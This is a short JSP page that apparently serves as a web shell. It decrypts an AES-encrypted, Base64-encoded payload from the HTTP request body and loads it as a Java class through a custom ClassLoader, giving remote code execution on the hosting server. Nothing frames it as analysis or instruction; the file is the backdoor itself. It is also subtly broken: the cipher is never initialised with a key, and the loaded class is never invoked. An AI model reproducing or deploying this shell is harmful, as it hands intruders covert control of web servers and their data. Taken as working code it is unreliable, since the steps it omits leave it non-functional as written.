<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
class L extends ClassLoader {
    L(ClassLoader c) { super(c); }
    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }
}
%>
<%
Cipher ci = Cipher.getInstance("AES");
byte[] body = Base64.getDecoder().decode(request.getReader().readLine());
new L(this.getClass().getClassLoader()).g(ci.doFinal(body));
%>
